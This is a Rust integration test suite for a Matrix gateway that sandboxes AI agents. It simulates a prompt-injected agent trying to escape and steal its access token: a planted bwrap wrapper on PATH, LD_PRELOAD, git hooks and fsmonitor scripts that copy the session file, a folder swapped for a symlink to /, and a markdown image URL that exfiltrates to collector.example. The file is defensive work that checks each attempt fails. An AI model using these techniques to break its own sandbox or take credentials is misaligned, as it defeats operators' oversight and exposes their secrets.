#![recursion_limit = "256"]
//! A sandbox a hostile agent cannot leave: the demo agent, sandboxed as by default, plays an
//! agent a prompt injection turned against the gateway, through a real homeserver. Each test
//! tries one way out that used to work and checks the gateway's secrets stay out of reach:
//! the agent's own Matrix access token (`state/matrix/demo/session.json`) above all.

mod support;

use support::{Env, SynapseOptions};

/// A gateway whose agent must run sandboxed (`sandbox.mode = "bubblewrap"`).
async fn sandboxed(extra_toml: &str) -> Env {
    let toml = format!("[sandbox]\nmode = \"bubblewrap\"\n{extra_toml}");
    Env::start(SynapseOptions::default(), &toml).await
}

/// The agent's Matrix session file, which holds its access token.
fn session_file(env: &Env) -> std::path::PathBuf {
    env.gw.dir.path().join("state/matrix/demo/session.json")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_bwrap_on_the_terminals_path_never_runs_outside_the_sandbox() {
    let env = sandboxed("").await;
    let room = env.room_with_agent(false).await;
    let workspace = env.gw.workspace("demo").canonicalize().unwrap();
    let session = session_file(&env);
    assert!(session.exists());
    let stolen = workspace.join("stolen.txt");
    // A `bwrap` of its own that copies the token where the agent can read it, then runs
    // the real one so nothing looks amiss.
    let script = format!(
        "#!/bin/sh\\ncat {} > {} 2>/dev/null\\nexec /usr/bin/bwrap \"$@\"\\n",
        session.display(),
        stolen.display()
    );
    let bin = workspace.join("bin");
    env.alice
        .send(
            &room,
            &format!(
                "%terminal mkdir -p bin && printf '{script}' > bin/bwrap && chmod +x bin/bwrap && echo planted\n\
                 %terminal --env PATH={bin}:/usr/bin:/bin echo ran-with-its-path\n\
                 %terminal --env LD_PRELOAD={bin}/evil.so echo ran-with-its-loader\n\
                 %terminal {probe}\n\
                 %say done trying",
                bin = bin.display(),
                probe = reach_homeserver(&env),
            ),
        )
        .await;
    let said = env
        .reply_where(&room, "the three commands", |t| t.contains("done trying"))
        .await;
    assert!(said.contains("planted"), "{said}");
    assert!(bin.join("bwrap").exists(), "the agent did plant it");
    // The command ran, with the agent's PATH inside its sandbox, and the planted program
    // never ran outside it.
    assert!(said.contains("ran-with-its-path"), "{said}");
    assert!(
        !stolen.exists(),
        "the planted bwrap ran as the gateway: {said}"
    );
    // The loader's variables are refused, with a reason.
    assert!(
        said.contains("terminal refused: ") && said.contains("`LD_PRELOAD` is not passed"),
        "{said}"
    );
    assert!(!said.contains("ran-with-its-loader"), "{said}");
    // By default the sandbox shares the host's network (agents call their model over it).
    assert!(said.contains("```\nreached-the-homeserver\n```"), "{said}");
}

/// A shell command that connects to the homeserver's port and says whether it could.
fn reach_homeserver(env: &Env) -> String {
    format!(
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}' 2>/dev/null && echo reached-the-homeserver || echo no-route",
        env.hs.port
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_without_network_reaches_no_host_service_yet_keeps_its_room_tools() {
    let env = Env::start_with_agent_toml(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"auto\"",
        "[agents.sandbox]\nnetwork = \"none\"",
    )
    .await;
    let room = env.room_with_agent(false).await;
    env.alice
        .send(
            &room,
            &format!(
                "%terminal {}\n\
                 %mcp-call sidekicks recent_messages {{\"limit\": 5}}\n\
                 %say done trying",
                reach_homeserver(&env)
            ),
        )
        .await;
    let said = env
        .reply_where(&room, "the probe and the tool", |t| {
            t.contains("done trying")
        })
        .await;
    // (The room tools list the prompt, which names both answers: the command's own output
    // is the fenced block.)
    assert!(said.contains("```\nno-route\n```"), "{said}");
    // The room tools still answer, through the socket file bound into the sandbox.
    assert!(said.contains("mcp-call"), "{said}");
    assert!(
        said.contains("%terminal"),
        "the room's messages are listed: {said}"
    );
    // The log says what network the agent has; `auto` became a sandbox that must start.
    assert!(env.gw.log().contains("network: none (loopback only)"));
}

/// The access token in the agent's session file.
fn access_token(env: &Env) -> String {
    let session: serde_json::Value =
        serde_json::from_slice(&std::fs::read(session_file(env)).unwrap()).unwrap();
    let token = session.to_string();
    let start = token.find("\"access_token\":\"").unwrap() + 16;
    token[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_room_folder_swapped_for_a_link_to_the_root_leads_nowhere_of_the_gateways() {
    // `{room}`: the agent may write the folder above its room's, as every example does.
    let env = Env::start_with_agent_toml(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"bubblewrap\"",
        "workspace = \"workspace-demo/room-{room}\"",
    )
    .await;
    let room = env.room_with_agent(false).await;
    // The conversation's folder is opened for its first prompt.
    env.prompt_and_wait(&room, "%say ready", "ready").await;
    let root = env.gw.dir.path().join("workspace-demo");
    let folder = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("room-")
        })
        .expect("the room's folder");
    let name = folder.file_name().unwrap().to_string_lossy().into_owned();
    // The session file, as a path from `/`: where the folder leads once it is a link to `/`.
    let session = session_file(&env).canonicalize().unwrap();
    let from_root = session.strip_prefix("/").unwrap().display().to_string();
    env.alice
        .send(
            &room,
            &format!(
                "%terminal cd .. && mv {name} {name}.old && ln -s / {name} && echo swapped\n\
                 %fs-read {from_root}\n\
                 %link {from_root}\n\
                 %mcp-call sidekicks post_file {{\"path\": \"{from_root}\"}}\n\
                 %say done trying"
            ),
        )
        .await;
    let said = env
        .reply_where(&room, "the attempts", |t| t.contains("done trying"))
        .await;
    assert!(said.contains("swapped"), "{said}");
    assert!(
        std::fs::symlink_metadata(&folder)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the agent did swap its folder for a link"
    );
    assert!(said.contains(&format!("fs refused {from_root}")), "{said}");
    assert!(said.contains("mcp-call post_file failed"), "{said}");
    env.alice.send(&room, &format!("!file {from_root}")).await;
    let refused = env.notice_containing(&room, "I did not post").await;
    assert!(
        refused.body.contains("there is no such file"),
        "{}",
        refused.body
    );
    // Nothing the agent said or the gateway posted carries the token.
    let token = access_token(&env);
    let texts = env.texts_from(&room, &env.agent);
    assert!(
        !texts.iter().any(|t| t.contains(&token)),
        "the access token reached the room: {texts:?}"
    );
    let files: Vec<_> = env
        .alice
        .messages_from(&room, &env.agent)
        .into_iter()
        .filter(|m| m.body == "session.json")
        .collect();
    assert!(files.is_empty(), "the session file was posted: {files:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_and_a_huge_sparse_file_read_through_the_client_are_refused_and_nothing_hangs() {
    let env = sandboxed("").await;
    let room = env.room_with_agent(false).await;
    env.alice
        .send(
            &room,
            "%terminal mkfifo fifo && truncate -s 32G sparse && echo made\n\
             %fs-read fifo\n\
             %fs-read sparse\n\
             %say still here",
        )
        .await;
    let said = env
        .reply_where(&room, "the reads", |t| t.contains("still here"))
        .await;
    assert!(said.contains("made"), "{said}");
    assert!(
        said.contains("fs refused fifo") && said.contains("not a regular file"),
        "{said}"
    );
    assert!(
        said.contains("fs refused sparse") && said.contains("read it in parts"),
        "{said}"
    );
    // The gateway answers the next message as ever.
    env.prompt_and_wait(&room, "%say and again", "and again")
        .await;
}

/// Runs git directly in `folder`, for the test's own setup.
fn git(folder: &std::path::Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(folder)
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_never_runs_the_agents_hooks_or_fsmonitor_outside_the_sandbox() {
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let repo = outside.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("README"), "hello\n").unwrap();
    git(&repo, &["add", "README"]);
    git(
        &repo,
        &[
            "-c",
            "user.email=t@x",
            "-c",
            "user.name=T",
            "commit",
            "-q",
            "-m",
            "first",
        ],
    );
    let env = Env::start_with_agent_toml(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"bubblewrap\"",
        &format!(
            "workspace = \"workspace-demo/{{room}}\"\n[agents.worktree]\nrepository = {repo:?}"
        ),
    )
    .await;
    let first = env.room_with_agent(false).await;
    env.prompt_and_wait(&first, "%say in my worktree", "in my worktree")
        .await;
    // Where whatever the agent's git configuration runs leaves its loot: the workspace, which
    // both the gateway and the agent can reach.
    let loot = env.gw.dir.path().join("workspace-demo");
    let session = session_file(&env);
    let script = |name: &str| {
        format!(
            "#!/bin/sh\\ntouch {loot}/{name}-ran\\ncat {session} > {loot}/{name}-stolen 2>/dev/null\\nexit 0\\n",
            loot = loot.display(),
            session = session.display(),
        )
    };
    env.alice
        .send(
            &first,
            &format!(
                "%terminal common=$(git rev-parse --git-common-dir) && mkdir -p $common/hooks && \
                 printf '{hook}' > $common/hooks/post-checkout && printf '{monitor}' > $common/monitor && \
                 chmod +x $common/hooks/post-checkout $common/monitor && \
                 git config core.fsmonitor $(cd $common && pwd)/monitor && echo armed\n%say done",
                hook = script("hook"),
                monitor = script("fsmonitor"),
            ),
        )
        .await;
    let said = env
        .reply_where(&first, "the armed repository", |t| t.contains("done"))
        .await;
    assert!(said.contains("armed"), "{said}");
    // `!worktree` runs `git status`; a second room makes its worktree (a checkout).
    env.alice.send(&first, "!worktree").await;
    env.notice_containing(&first, "on branch").await;
    let second = env.room_with_agent(false).await;
    env.prompt_and_wait(&second, "%say second worktree", "second worktree")
        .await;
    for name in ["hook", "fsmonitor"] {
        assert!(
            !loot.join(format!("{name}-ran")).exists(),
            "the agent's {name} ran for the gateway's git"
        );
        assert!(!loot.join(format!("{name}-stolen")).exists());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recovery_key_written_after_the_agents_started_stays_hidden() {
    // Where an operator keeps it: outside the state folder. It does not exist yet: the
    // gateway writes it on this first start, once the agent's recovery state is known.
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let key_file = outside.path().join("demo.recovery-key");
    let env = Env::start_with(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"bubblewrap\"",
        support::person::CollectStrategy::AllDevices,
        &[],
        &format!("matrix.recovery_key_file = {key_file:?}"),
    )
    .await;
    let key = support::wait_until(support::PATIENCE, "the recovery key written", || {
        std::fs::read_to_string(&key_file)
            .ok()
            .map(|k| k.trim().to_owned())
            .filter(|k| k.len() > 40)
    })
    .await;
    let room = env.room_with_agent(false).await;
    env.alice
        .send(&room, &format!("%read {}\n%say done", key_file.display()))
        .await;
    let said = env
        .reply_where(&room, "the agent's read", |t| t.contains("done"))
        .await;
    assert!(
        !said.contains(&key),
        "the agent read the recovery key: {said}"
    );
    // Covered: it reads as nothing, or not at all.
    let shown = key_file.display();
    assert!(
        said.contains(&format!("read {shown}: 0 bytes"))
            || said.contains(&format!("cannot read {shown}")),
        "{said}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_read_another_agents_home() {
    use support::{AgentSpec, GatewayProcess, Person, Synapse};
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let (home_a, home_b) = (outside.path().join("home-a"), outside.path().join("home-b"));
    // Agent B signed in once: its credentials live in its home.
    std::fs::create_dir_all(home_b.join(".config")).unwrap();
    std::fs::write(home_b.join(".config/credentials"), "b-api-key-123456").unwrap();
    let hs = Synapse::start(SynapseOptions::default()).await;
    let alice_id = hs.register("alice", "alice-password").await;
    let a = hs.register("demo", "demo-password").await;
    let b = hs.register("other", "other-password").await;
    let spec = |id: &str, user: &str, home: &std::path::Path| AgentSpec {
        id: id.into(),
        user_id: user.into(),
        password: format!("{id}-password"),
        demo_args: vec![],
        agent_toml: format!("home = {home:?}"),
    };
    let gw = GatewayProcess::start(
        &hs.url,
        &[alice_id.as_str()],
        &[spec("demo", &a, &home_a), spec("other", &b, &home_b)],
        "[sandbox]\nmode = \"bubblewrap\"",
    );
    let alice = Person::login(&hs.url, &alice_id, "alice-password").await;
    let env = Env {
        hs,
        gw,
        alice,
        agents: vec![a.clone()],
        agent: a,
    };
    let room = env.room_with_agent(false).await;
    let credentials = home_b.join(".config/credentials");
    env.alice
        .send(
            &room,
            &format!("%read {}\n%pwd\n%say done", credentials.display()),
        )
        .await;
    let said = env
        .reply_where(&room, "the agent's read", |t| t.contains("done"))
        .await;
    assert!(
        said.contains(&format!("home: {}", home_a.display())),
        "{said}"
    );
    assert!(
        said.contains(&format!("cannot read {}", credentials.display())),
        "agent B's credentials were read: {said}"
    );
}

/// The session ID `!sessions` in `room` marks as the conversation's own.
async fn own_session(env: &Env, room: &matrix_sdk::room::Room) -> String {
    env.alice.send(room, "!sessions").await;
    let list = env
        .notice_containing(room, "sessions in this workspace")
        .await;
    (list.body.lines())
        .filter_map(|l| l.strip_prefix("• "))
        .find(|l| l.contains("(this conversation)"))
        .and_then(|l| l.split_whitespace().next())
        .unwrap_or_else(|| panic!("the conversation's session among {}", list.body))
        .to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_room_cannot_list_or_attach_another_rooms_session_in_a_shared_workspace() {
    let env =
        Env::start_with_demo_args(SynapseOptions::default(), "", &["--sessions", "sessions"]).await;
    let first = env.room_with_agent(false).await;
    let second = env.room_with_agent(false).await;
    env.prompt_and_wait(
        &first,
        "%say the launch code is 0000",
        "the launch code is 0000",
    )
    .await;
    let theirs = own_session(&env, &first).await;
    env.prompt_and_wait(&second, "%say hello", "hello").await;
    let mine = own_session(&env, &second).await;
    assert_ne!(theirs, mine);
    env.alice.send(&second, "!sessions").await;
    let list = env.notice_containing(&second, "not shown").await;
    assert!(!list.body.contains(&theirs), "{}", list.body);
    assert!(
        list.body
            .contains("1 session of another room's conversation is not shown"),
        "{}",
        list.body
    );
    env.alice.send(&second, &format!("!attach {theirs}")).await;
    env.notice_containing(
        &second,
        &format!("Session {theirs} is another conversation's"),
    )
    .await;
    // The second room's conversation is still its own.
    env.alice.send(&second, "%history").await;
    let history = env
        .reply_where(&second, "the second room's history", |t| {
            t.contains("earlier prompt")
        })
        .await;
    assert!(!history.contains("launch code"), "{history}");
    assert_eq!(own_session(&env, &second).await, mine);
}

/// The HTML of the agent's message in `room` whose text ends `end`, once it does.
async fn html_of_answer(env: &Env, room: &matrix_sdk::room::Room, end: &str) -> String {
    support::wait_until(support::PATIENCE, "the answer's HTML", || {
        (env.alice.messages_from(room, &env.agent).into_iter())
            .filter(|m| m.replaces.is_none())
            .find(|m| {
                env.alice
                    .current_text(&m.event_id)
                    .is_some_and(|t| t.ends_with(end))
            })
            .and_then(|m| env.alice.current_html(&m.event_id))
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agents_picture_is_never_fetched_by_readers_unless_configured() {
    // A picture whose address would carry the room's words to a server of the agent's
    // choosing, when a reader's homeserver fetches it.
    let prompt = "%say **Done.** ![status](mxc://collector.example/c2VjcmV0) the end";
    let env = sandboxed("").await;
    let room = env.room_with_agent(false).await;
    env.alice.send(&room, prompt).await;
    let html = html_of_answer(&env, &room, "the end").await;
    assert!(!html.contains("<img"), "{html}");
    assert!(
        html.contains("status (mxc://collector.example/c2VjcmV0)"),
        "its description and address, as text: {html}"
    );
    drop(env);
    let env = sandboxed("[display]\npictures = \"matrix\"").await;
    let room = env.room_with_agent(false).await;
    env.alice.send(&room, prompt).await;
    let html = html_of_answer(&env, &room, "the end").await;
    assert!(
        html.contains("<img src=\"mxc://collector.example/c2VjcmV0\""),
        "shown where the operator allows it: {html}"
    );
}
